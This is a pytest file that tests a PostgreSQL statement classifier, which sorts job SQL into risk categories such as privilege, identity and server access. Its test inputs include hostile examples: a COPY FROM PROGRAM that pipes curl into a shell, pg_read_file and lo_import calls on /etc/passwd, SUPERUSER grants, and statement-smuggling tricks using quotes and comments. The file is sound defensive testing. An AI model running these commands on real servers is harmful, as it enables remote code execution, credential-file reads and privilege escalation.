"""Classification of job SQL with real pglast parses (no server)."""
from __future__ import annotations

import pytest

from plpy_bg.policy.classify import ClassifyError, classify


def kinds(sql: str) -> list[tuple[str, str]]:
    return [(s["kind"], s["command"]) for s in classify(sql)["statements"]]


@pytest.mark.parametrize("sql, kind, command", [
    ("SELECT * FROM t WHERE id = 1", "read", "SELECT"),
    ("SHOW search_path", "read", "SHOW"),
    ("EXPLAIN SELECT 1", "read", "EXPLAIN"),
    ("INSERT INTO t VALUES (1)", "write", "INSERT"),
    ("UPDATE t SET a = 1", "write", "UPDATE"),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "write", "SELECT"),
    ("COPY t FROM STDIN", "write", "COPY"),
    ("COPY t TO STDOUT", "read", "COPY"),
    ("SET statement_timeout = 5", "setting", "SET statement_timeout"),
    ("VACUUM t", "maintenance", "VACUUM"),
    ("ANALYZE t", "maintenance", "ANALYZE"),
    ("REINDEX TABLE t", "maintenance", "REINDEX"),
    ("REFRESH MATERIALIZED VIEW CONCURRENTLY mv", "maintenance", "REFRESH MATERIALIZED VIEW"),
    ("CREATE INDEX CONCURRENTLY i ON t (a)", "ddl", "CREATE INDEX"),
    ("CREATE TABLE t (a int)", "ddl", "CREATE TABLE"),
    ("ALTER TABLE t ADD COLUMN b int", "ddl", "ALTER TABLE"),
    ("DROP TABLE t", "ddl", "DROP"),
    ("SELECT * INTO t2 FROM t", "ddl", "SELECT INTO"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", "ddl", "CREATE FUNCTION"),
    ("ALTER ROLE alice SUPERUSER", "privilege", "ALTER ROLE"),
    ("CREATE ROLE evil", "privilege", "CREATE ROLE"),
    ("GRANT admin TO alice", "privilege", "GRANT ROLE"),
    ("GRANT SELECT ON t TO alice", "privilege", "GRANT"),
    ("ALTER TABLE t OWNER TO alice", "privilege", "ALTER TABLE"),
    ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO alice", "privilege", "ALTER DEFAULT PRIVILEGES"),
    ("SET ROLE admin", "identity", "SET ROLE"),
    ("SET LOCAL ROLE admin", "identity", "SET ROLE"),
    ("RESET ROLE", "identity", "RESET ROLE"),
    ("SET SESSION AUTHORIZATION admin", "identity", "SET SESSION AUTHORIZATION"),
    ("RESET SESSION AUTHORIZATION", "identity", "RESET SESSION AUTHORIZATION"),
    ("RESET ALL", "identity", "RESET ALL"),
    ("DISCARD ALL", "identity", "DISCARD ALL"),
    ("DISCARD TEMP", "setting", "DISCARD"),
    ("SELECT set_config('role', 'admin', false)", "identity", "set_config('role')"),
    ("SELECT pg_catalog.set_config('session_authorization', 'x', true)", "identity",
     "set_config('session_authorization')"),
    ("SELECT set_config(name, 'x', false) FROM t", "identity", "set_config"),
    ("SELECT set_config('Role', 'admin', false)", "identity", "set_config('Role')"),
    ("COPY t FROM PROGRAM 'curl http://x | sh'", "server", "COPY FROM PROGRAM"),
    ("COPY t TO PROGRAM 'cat > /tmp/x'", "server", "COPY TO PROGRAM"),
    ("COPY t TO '/tmp/x'", "server", "COPY TO FILE"),
    ("ALTER SYSTEM SET work_mem = '1GB'", "server", "ALTER SYSTEM"),
    ("LOAD 'auto_explain'", "server", "LOAD"),
    ("SELECT pg_read_file('/etc/passwd')", "server", "SELECT"),
    ("SELECT lo_import('/etc/passwd')", "server", "SELECT"),
    ("SET session_replication_role = replica", "server", "SET session_replication_role"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'", "server", "CREATE FUNCTION"),
    ("CREATE LANGUAGE plperlu", "server", "CREATE EXTENSION"),  # the grammar's legacy form
    ("CREATE LANGUAGE plx HANDLER plx_call", "server", "CREATE LANGUAGE"),
    ("CREATE EXTENSION hstore", "server", "CREATE EXTENSION"),
    ("DO $$ BEGIN EXECUTE 'ALTER ROLE x SUPERUSER'; END $$", "opaque", "DO"),
    ("DO LANGUAGE plpython3u $$ import os $$", "server", "DO"),
    ("SELECT dblink_exec('dbname=x', 'DROP TABLE t')", "opaque", "SELECT"),
    ("SELECT query_to_xml('select 1', true, false, '')", "opaque", "SELECT"),
    ("SELECT pg_background_launch_v2('VACUUM')", "opaque", "SELECT"),
    ("EXECUTE p", "opaque", "EXECUTE"),
    ("BEGIN", "transaction", "BEGIN"),
    ("COMMIT", "transaction", "COMMIT"),
    ("PREPARE TRANSACTION 'x'", "transaction", "PREPARE TRANSACTION"),
    ("EXPLAIN ANALYZE DELETE FROM t", "write", "EXPLAIN DELETE"),
    ("EXPLAIN ANALYZE CREATE TABLE t2 AS SELECT 1", "ddl", "EXPLAIN CREATE TABLE AS"),
])
def test_category(sql, kind, command):
    assert kinds(sql) == [(kind, command)]


def test_multi_statement_detection():
    c = classify("SELECT 1; ALTER ROLE alice SUPERUSER; SELECT 2")
    assert c["statement_count"] == 3 and c["multi_statement"]
    assert c["worst"] == "privilege"
    assert c["kinds"] == ["read", "privilege"]
    assert not classify("SELECT 1;")["multi_statement"]


def test_dollar_quotes_and_comments_do_not_smuggle_statements():
    c = classify("SELECT $$; ALTER ROLE x SUPERUSER; $$")
    assert kinds("SELECT $$; ALTER ROLE x SUPERUSER; $$") == [("read", "SELECT")]
    assert c["statement_count"] == 1
    # a statement after a line comment is real and must be seen
    assert kinds("SELECT 1 -- harmless\n; ALTER ROLE x SUPERUSER") == [("read", "SELECT"), ("privilege", "ALTER ROLE")]
    assert kinds("SELECT 1 /* ; ALTER ROLE x SUPERUSER; */") == [("read", "SELECT")]
    assert kinds("SELECT 1 /* nested /* */ ; */; SET\nROLE\nadmin") == [("read", "SELECT"), ("identity", "SET ROLE")]
    assert kinds("SELECT $a$ $$ ; $a$; SELECT $tag$;DROP TABLE t;$tag$") == [("read", "SELECT"), ("read", "SELECT")]
    assert kinds("SELECT E'\\'; DROP TABLE t; --'") == [("read", "SELECT")]


def test_identity_hidden_in_expressions():
    assert classify("SELECT 1 WHERE set_config('role', 'admin', false) IS NOT NULL")["worst"] == "identity"
    assert classify("INSERT INTO t SELECT set_config('role', 'x', true)")["worst"] == "identity"
    assert classify("SELECT * FROM t, LATERAL (SELECT set_config('session_authorization', 'a', false)) s")["worst"] == "identity"


def test_functions_and_operators_are_collected():
    c = classify("SELECT alice.f(1, 2), g(), a OPERATOR(alice.+) b, x || y FROM t WHERE z = lower(w)")
    st = c["statements"][0]
    names = sorted(tuple(f["name"]) for f in st["functions"])
    assert names == [("alice", "f"), ("g",), ("lower",)]
    assert {f["nargs"] for f in st["functions"] if f["name"] == ["alice", "f"]} == {2}
    ops = sorted(tuple(o["name"]) for o in st["operators"])
    assert ops == [("=",), ("alice", "+"), ("||",)]


def test_call_statement_names_its_procedure():
    st = classify("CALL app.refresh(1)")["statements"][0]
    assert st["functions"][0]["name"] == ["app", "refresh"] and st["functions"][0].get("procedure")


def test_search_path_changes_are_tracked():
    c = classify('SET search_path = alice, "Bob", public; SELECT f(); RESET search_path; '
                 "SELECT set_config('search_path', 'x', false); SET LOCAL search_path = y")
    paths = [s.get("sets_search_path", "-") for s in c["statements"]]
    assert paths == ['"alice", "Bob", "public"', "-", None, "x", '"y"']  # each value an identifier, as the server has it
    assert [s.get("local") for s in c["statements"]] == [False, None, False, None, True]


def test_syntax_error_raises():
    with pytest.raises(ClassifyError):
        classify("SELEC 1")


def test_cache_returns_same_object():
    assert classify("SELECT 42") is classify("SELECT 42")


def test_row_text_wraps_one_plain_query_only():
    from plpy_bg.dispatcher.protocol import row_text_sql
    from plpy_bg.policy.classify import classify, row_statement
    assert row_statement("  SELECT 1; -- done", classify("  SELECT 1; -- done")) == "SELECT 1"
    assert row_text_sql("SELECT 1") == "SELECT (plpy_bg_row.*)::pg_catalog.text FROM (\nSELECT 1\n) AS plpy_bg_row"
    assert row_statement("SELECT 'é' -- x", classify("SELECT 'é' -- x")) == "SELECT 'é' -- x"
    for sql in ("SELECT 1 INTO t", "SELECT 1; SELECT 2", "INSERT INTO t VALUES (1) RETURNING 1",
                "WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d", "SHOW work_mem", "EXPLAIN SELECT 1"):
        assert row_statement(sql, classify(sql)) is None, sql


def test_a_job_commits_its_outcome_when_it_is_one_transaction_that_may_write():
    from plpy_bg.policy.classify import classify, commits_its_outcome
    for sql in ("INSERT INTO t VALUES (1)", "INSERT INTO t VALUES (1); SELECT 1/0",
                "UPDATE t SET a = 1; DELETE FROM t"):
        assert commits_its_outcome(classify(sql)), sql
    for sql in ("SELECT 1", "VACUUM t", "CALL p()", "DO $$ BEGIN END $$", "INSERT INTO t VALUES (1); COMMIT",
                "INSERT INTO t VALUES (1); VACUUM t"):
        assert not commits_its_outcome(classify(sql)), sql
